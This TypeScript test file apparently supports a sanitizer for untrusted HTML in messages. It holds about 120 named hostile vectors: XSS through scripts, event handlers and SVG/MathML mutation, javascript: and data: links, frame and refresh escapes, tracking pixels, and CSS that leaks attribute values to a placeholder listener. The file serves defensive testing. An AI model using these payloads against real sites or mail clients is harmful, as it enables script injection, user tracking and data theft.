/** What senders of hostile HTML try: to run a script, to ask for something, to leave the frame, or to hide behind what is ours. */

/** `html` is the body; in it `TRAP` is the address of a listener and `RUN` a script that tells that it ran. */
export type Vector = { name: string; html: string };

const RUN = "document.documentElement.setAttribute('data-ran','1');fetch('TRAP/ran');alert(1)";

const vectors: [name: string, html: string][] = [
  // Scripts.
  ['a script', `<script>RUN</script>`],
  ['a script in capitals', `<SCRIPT>RUN</SCRIPT>`],
  ['a script from elsewhere', `<script src="TRAP/x.js"></script>`],
  ['a script in a script', `<scr<script>ipt>RUN</scr</script>ipt>`],
  ['a script with a slash', `<script/x>RUN</script>`],
  ['a script that is not closed', `<script>RUN//`],
  ['a script as a module', `<script type="module">RUN</script>`],
  ['a script behind a null byte', `<\0script>RUN</script>`],
  ['a script in a comment that ends early', `<!--><script>RUN</script>-->`],
  ['a script in a comment with a bang', `<!-- --!><script>RUN</script> -->`],
  ['a script in a declaration', `<![CDATA[<script>RUN</script>]]>`],
  ['a script in a conditional comment', `<!--[if gte IE 4]><script>RUN</script><![endif]-->`],
  ['a script in a noscript', `<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>`],
  [
    'a script in a template',
    `<template><script>RUN</script></template><template shadowrootmode="open"><img src=x onerror="RUN"></template>`,
  ],
  ['a script in a title', `<title><img src=x onerror="RUN"></title><title></title><script>RUN</script>`],
  ['a script in a textarea', `<textarea></textarea><script>RUN</script></textarea>`],
  ['a script in an attribute', `<p title='"><script>RUN</script>'>x</p>`],
  // Handlers.
  ['an image that fails', `<img src=x onerror="RUN">`],
  ['an image without quotation marks', `<img src=x onerror=RUN>`],
  ['an image with a slash', `<img/src=x/onerror="RUN">`],
  ['an image with a line break in the handler', `<img src=x one\nrror="RUN" onerror\n=\n"RUN">`],
  ['an image that loads', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">`],
  ['a body that loads', `<body onload="RUN">x</body>`],
  ['a body that is shown', `<body onpageshow="RUN" onfocus="RUN">x</body>`],
  ['a field with the focus', `<input autofocus onfocus="RUN">`],
  ['a select with the focus', `<select autofocus onfocus="RUN"><option>x</select>`],
  ['details that open', `<details open ontoggle="RUN">x</details>`],
  ['a marquee', `<marquee onstart="RUN">x</marquee>`],
  ['a video source', `<video><source onerror="RUN" src="TRAP/v"></video>`],
  ['an audio', `<audio src="TRAP/a" onerror="RUN" autoplay>`],
  [
    'an animation that ends',
    `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend="RUN" onanimationstart="RUN">x</p>`,
  ],
  ['a transition', `<p tabindex=1 style="transition:color 1ms" ontransitionend="RUN">x</p>`],
  [
    'a scroll',
    `<div style="overflow:auto;height:9px" onscroll="RUN" onscrollend="RUN"><p style="height:900px">x<p id=z autofocus tabindex=1>z</div>`,
  ],
  ['content that becomes visible', `<p style="content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</p>`],
  ['a popover', `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="RUN">x</div>`],
  ['a handler of an unknown element', `<xss onpointerrawupdate="RUN" onfocus="RUN" tabindex=1 autofocus>x</xss>`],
  ['a handler in mixed case', `<iMg SrC=x OnErRoR="RUN">`],
  ['a handler behind a form feed', `<img\fsrc=x\fonerror="RUN">`],
  // SVG and MathML.
  ['an svg that loads', `<svg onload="RUN"></svg>`],
  ['a script in an svg', `<svg><script>RUN</script></svg>`],
  ['a script in an svg with entities', `<svg><script>&#97;lert(1)</script></svg>`],
  ['an svg that animates an href', `<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>`],
  ['an svg image', `<svg><image href="TRAP/svg.png"/></svg>`],
  ['an svg that uses another', `<svg><use href="TRAP/u.svg#x"/></svg>`],
  ['an svg with a style', `<svg><style>@import "TRAP/i.css";</style></svg>`],
  ['an svg filter', `<svg><filter><feImage href="TRAP/f"/></filter></svg>`],
  ['a foreign object', `<svg><foreignObject><img src=x onerror="RUN"><iframe src="TRAP/fo"></iframe></foreignObject></svg>`],
  ['a set in an svg', `<svg><set attributeName=onmouseover to="RUN"/><set onbegin="RUN"/></svg>`],
  ['a discard in an svg', `<svg><discard onbegin="RUN"/></svg>`],
  [
    'math with a link',
    `<math href="javascript:RUN">x<maction actiontype="statusline#http://x" xlink:href="javascript:RUN">x</maction></math>`,
  ],
  ['mutation through math', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`],
  ['mutation through svg', `<svg></p><style><a id="</style><img src=x onerror=RUN>">`],
  ['mutation through a form', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">`],
  ['mutation through noembed', `<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>`],
  ['mutation through xmp', `<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>`],
  [
    'mutation through an annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>`,
  ],
  ['mutation through a select', `<select><style></select><img src=x onerror="RUN"></style>`],
  ['plaintext', `<p>x</p><plaintext><img src=x onerror="RUN">`],
  ['two hundred levels of mutation', `${'<div>'.repeat(200)}<svg><style><img src=x onerror="RUN"></style></svg>`],
  // Addresses that run.
  ['a javascript link', `<a href="javascript:RUN" id=l>x</a>`],
  ['a javascript link with a tab', `<a href="java\tscript:RUN">x</a>`],
  ['a javascript link with entities', `<a href="&#106;avascript&colon;RUN">x</a>`],
  ['a javascript link behind a control', `<a href="\x01javascript:RUN">x</a>`],
  ['a vbscript link', `<a href="vbscript:RUN">x</a>`],
  ['a data link', `<a href="data:text/html,<script>RUN</script>">x</a>`],
  ['a blob link', `<a href="blob:null/x">x</a><a href="filesystem:x">x</a><a href="file:///etc/passwd">x</a>`],
  ['a javascript image', `<img src="javascript:RUN">`],
  ['a javascript form', `<form action="javascript:RUN"><input type=submit value=x></form>`],
  ['a javascript button', `<form id=f></form><button form=f formaction="javascript:RUN">x</button>`],
  ['a javascript frame', `<iframe src="javascript:RUN"></iframe>`],
  ['a frame with a document', `<iframe srcdoc="<script>RUN</script>"></iframe>`],
  ['a javascript object', `<object data="javascript:RUN"></object><embed src="javascript:RUN">`],
  ['an object with html', `<object data="data:text/html,<script>RUN</script>" type="text/html"></object>`],
  ['a javascript base', `<base href="javascript:RUN//"><a href="x">x</a>`],
  // The page and where it goes.
  ['a refresh', `<meta http-equiv="refresh" content="0;url=TRAP/refresh">`],
  ['a refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:RUN">`],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src *"><script>RUN</script>`],
  ['a base elsewhere', `<base href="TRAP/"><img src="x.png"><a href="y">x</a>`],
  ['a form that sends itself', `<form action="TRAP/form"><input name=q value=1><input type=image src="TRAP/i.png"></form>`],
  ['a frame', `<iframe src="TRAP/frame"></iframe>`],
  ['a frameset', `<frameset><frame src="TRAP/fs"></frameset>`],
  ['a portal', `<portal src="TRAP/portal"></portal><fencedframe src="TRAP/ff"></fencedframe>`],
  ['a manifest', `<html manifest="TRAP/m.appcache"><body background="TRAP/bg.png">x`],
  // Tracking.
  ['an image', `<img src="TRAP/i.png" width=50 height=50>`],
  ['an image of a point', `<img src="TRAP/p.gif" width=1 height=1>`],
  ['an image in a set', `<img srcset="TRAP/s.png 1x, TRAP/s2.png 2x" sizes="100vw">`],
  ['an image in a picture', `<picture><source srcset="TRAP/ps.png"><img src="TRAP/pi.png"></picture>`],
  ['an image without a scheme', `<img src="//TRAPHOST/n.png">`],
  ['an image in hidden content', `<div hidden><img src="TRAP/h.png" loading=eager></div>`],
  ['a lazy image', `<img src="TRAP/l.png" lowsrc="TRAP/low.png" dynsrc="TRAP/d.png" longdesc="TRAP/ld">`],
  ['an image field', `<input type=image src="TRAP/ii.png">`],
  ['a background attribute', `<table background="TRAP/tb.png"><tr><td background="TRAP/td.png">x</td></tr></table>`],
  ['a background', `<p style="background:url(TRAP/b.png)">x</p>`],
  ['a background with escapes', `<p style="background:u\\72l(TRAP/be.png)">x</p>`],
  ['a background with a comment', `<p style="background:ur/**/l(TRAP/bc.png);background:url(/**/TRAP/bd.png)">x</p>`],
  ['a background in quotation marks', `<p style="background:url('TRAP/bq.png')">x</p>`],
  ['a background in a variable', `<p style="--u:url(TRAP/bv.png);background:var(--u)">x</p>`],
  ['a list with a picture', `<ul style="list-style:url(TRAP/li.png)"><li>x</ul>`],
  ['content with a picture', `<style>p::before{content:url(TRAP/ct.png)}</style><p>x</p>`],
  ['a cursor', `<p style="cursor:url(TRAP/cu.png),auto">x</p>`],
  [
    'a picture in a mask',
    `<p style="mask-image:url(TRAP/mk.png);-webkit-mask:url(TRAP/mw.png);border-image:url(TRAP/bi.png) 30">x</p>`,
  ],
  [
    'a filter from elsewhere',
    `<p style="filter:url(TRAP/fi.svg#f);clip-path:url(TRAP/cp.svg#c);shape-outside:url(TRAP/so.png)">x</p>`,
  ],
  [
    'an image set',
    `<p style="background-image:image-set('TRAP/is.png' 1x);background-image:-webkit-image-set(url(TRAP/iw.png) 1x)">x</p>`,
  ],
  ['a cross fade', `<p style="background-image:-webkit-cross-fade(url(TRAP/cf.png),url(TRAP/cg.png),50%)">x</p>`],
  ['a sheet', `<link rel="stylesheet" href="TRAP/s.css">`],
  ['an imported sheet', `<style>@import url(TRAP/i.css);@import "TRAP/j.css";</style>`],
  ['a font', `<style>@font-face{font-family:f;src:url(TRAP/f.woff)}p{font-family:f}</style><p>x</p>`],
  ['a sheet that reads an attribute', `<style>input[value^=a]{background:url(TRAP/a)}</style><input value=abc>`],
  [
    'a prefetch',
    `<link rel="prefetch" href="TRAP/pf"><link rel="preload" as=image href="TRAP/pl"><link rel="modulepreload" href="TRAP/mp">`,
  ],
  ['a connection made early', `<link rel="preconnect" href="TRAP"><link rel="dns-prefetch" href="TRAP">`],
  ['an icon', `<link rel="icon" href="TRAP/ico"><link rel="apple-touch-icon" href="TRAP/ati">`],
  ['speculation', `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["TRAP/sr"]}]}</script>`],
  ['a ping', `<a href="TRAP/go" ping="TRAP/ping">x</a>`],
  ['a track', `<video poster="TRAP/po.png" src="TRAP/vi.mp4" preload=auto><track src="TRAP/t.vtt" default></video>`],
  [
    'an applet',
    `<applet code="TRAP/x.class" archive="TRAP/x.jar"></applet><embed src="TRAP/e.swf"><object data="TRAP/o.swf"></object>`,
  ],
  [
    'a style that breaks out',
    `<p style="color:red&quot;&gt;<script>RUN</script>">x</p><p style="font-family:'</style><script>RUN</script>'">x</p>`,
  ],
  [
    'a style that was once a script',
    `<p style="width:expression(RUN);behavior:url(TRAP/b.htc);-moz-binding:url(TRAP/x.xml#x)">x</p>`,
  ],
  ['a file of the mail by a path of ours', `<img src="/api/v1/whoami"><img src="/console/session"><img src="../session">`],
  ['a picture of another mail', `<img src="cid:../../x"><img src="cid:%2e%2e/x"><img src="cid:">`],
];

/** What a vector asks of the listener `trap` begins with `/v`, its number and a slash. */
export function hostileVectors(trap: string): Vector[] {
  return vectors.map(([name, html], number) => {
    const own = `${trap}/v${number}`;
    return {
      name,
      html: html.replaceAll('RUN', RUN).replaceAll('TRAPHOST', own.slice('http://'.length)).replaceAll('TRAP', own),
    };
  });
}

/** The numbers of the vectors that asked for these paths. */
export function askedBy(paths: readonly string[]): Set<number> {
  return new Set(paths.flatMap((path) => (/^\/v(\d+)(?:\/|$)/.exec(path)?.[1] ?? []) as string).map(Number));
}
